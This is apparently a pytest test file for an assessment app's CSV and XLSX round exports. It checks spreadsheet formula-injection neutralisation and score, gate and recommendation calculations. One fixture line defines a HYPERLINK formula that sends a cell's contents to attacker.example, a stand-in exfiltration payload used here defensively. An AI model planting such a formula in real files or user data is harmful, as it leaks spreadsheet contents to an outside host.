"""Round exports: one row per submission and one row per answer, as CSV and XLSX, safe in spreadsheets."""

from __future__ import annotations

import csv
import io
import json

import openpyxl
import pandas as pd
import pytest

from assessor.extensions import db
from assessor.models import Answer, Applicant, Submission
from reports.exports import neutralise, neutralise_frame, to_csv, to_xlsx
from tests.review_helpers import COMMISSIONERS, NARRATIVE, build_world, moderate_as, signed_in

MALICIOUS = '=HYPERLINK("http://attacker.example/?leak="&A1,"Open the evidence")'


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_trigger_is_quoted_and_other_text_is_left_alone(trigger):
    assert neutralise(trigger + "1+1") == "'" + trigger + "1+1"
    frame = pd.DataFrame({"text": [trigger + "SUM(A1)", "plain", None], "number": [-3.5, 2, None]})
    safe = neutralise_frame(frame)
    assert safe["text"].tolist()[:2] == ["'" + trigger + "SUM(A1)", "plain"]
    assert safe["number"].tolist()[:2] == [-3.5, 2]  # a negative number is data, not a formula
    assert frame["text"][0] == trigger + "SUM(A1)"  # the caller's table is not changed


def test_tables_are_written_with_every_dangerous_cell_quoted():
    frame = pd.DataFrame({"answer": [MALICIOUS, "@cmd", "fine"], "=header": [1, 2, 3]})
    rows = list(csv.reader(io.StringIO(to_csv(frame).decode("utf-8-sig"))))
    assert rows[0] == ["answer", "'=header"]
    assert [r[0] for r in rows[1:]] == ["'" + MALICIOUS, "'@cmd", "fine"]
    sheet = openpyxl.load_workbook(io.BytesIO(to_xlsx({"Answers": frame})))["Answers"]
    cells = [sheet.cell(row=r, column=1) for r in (2, 3, 4)]
    assert [c.value for c in cells] == ["'" + MALICIOUS, "'@cmd", "fine"]
    assert {c.data_type for c in cells} == {"s"}  # stored as text, never as a formula


def test_round_exports_hold_scores_gates_and_every_answer_with_hostile_text_neutralised(app, data, make_browser):
    world = build_world(
        data,
        answers={
            "plan.narrative": MALICIOUS,
            "plan.board": True,
            "plan.maturity": 4,
            "people.workforce": 2,
            "plan.notes": "+44 1632 960000",
        },
    )
    with data() as session:
        session.get(Applicant, session.get(Submission, world.submission_id).applicant_id).name = "-Harbour Alliance"
        session.commit()
    moderate_as(data, world.submission_id, COMMISSIONERS["moderator"], NARRATIVE, 0.25)
    browser = signed_in(make_browser, COMMISSIONERS["panel"])
    base = f"/review/rounds/{world.round_id}/export"

    response = browser.get(f"{base}/submissions.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    wide = {row["submission_id"]: row for row in csv.DictReader(io.StringIO(response.data.decode("utf-8-sig")))}
    alliance = wide[str(world.submission_id)]
    assert alliance["applicant"] == "'-Harbour Alliance"
    # Plan: narrative (weight 2) at the Poor consensus 0.25, board and maturity (weight 1 each) at 1.0.
    plan = (2 * 0.25 + 1 + 1) / 4 * 100
    people = (1 * 1.0 + 1 * 0.0) / 2 * 100  # complete workforce plan, no evidence file
    assert float(alliance["domain: Plan"]) == pytest.approx(plan)
    assert float(alliance["domain: People"]) == pytest.approx(people)
    assert float(alliance["overall"]) == pytest.approx((plan + people) / 2)
    # 0.25 is below gate A's must-have minimum of 0.5 for the narrative.
    assert alliance["gate A: Essentials"] == "Fail" and alliance["gate B: Capability"] == "Pass"
    assert alliance["recommendation"] == "Default to open procurement"
    assert wide[str(world.draft_id)]["status"] == "Draft"

    response = browser.get(f"{base}/answers.csv")
    long = list(csv.DictReader(io.StringIO(response.data.decode("utf-8-sig"))))
    assert len(long) == 2 * 7  # every question of the 7-question questionnaire, for both submissions
    by_question = {r["question_id"]: r for r in long if r["submission_id"] == str(world.submission_id)}
    narrative = by_question[NARRATIVE]
    assert narrative["answer"] == "'" + MALICIOUS
    assert narrative["self_score"] == "" and float(narrative["moderated_score"]) == 0.25
    assert by_question["plan.notes"]["answer"] == "'+44 1632 960000"
    assert float(by_question["plan.board"]["self_score"]) == 1.0 and by_question["plan.board"]["moderated_score"] == ""
    assert by_question["people.followup"]["applies"] == "no"

    response = browser.get(f"{base}/round.xlsx")
    assert response.status_code == 200 and response.mimetype.endswith("spreadsheetml.sheet")
    workbook = openpyxl.load_workbook(io.BytesIO(response.data))
    assert workbook.sheetnames == ["Submissions", "Answers"]
    answers = workbook["Answers"]
    header = [c.value for c in answers[1]]
    hostile = [
        row[header.index("answer")]
        for row in answers.iter_rows(min_row=2)
        if row[header.index("question_id")].value == NARRATIVE and row[header.index("answer")].value != "Not answered"
    ]
    assert [(c.value, c.data_type) for c in hostile] == [("'" + MALICIOUS, "s")]
    with data() as session:
        stored = session.scalar(
            db.select(Answer.value_json).filter_by(submission_id=world.submission_id, question_id=NARRATIVE)
        )
    assert json.loads(stored) == MALICIOUS  # neutralising is for the file only; the answer is untouched
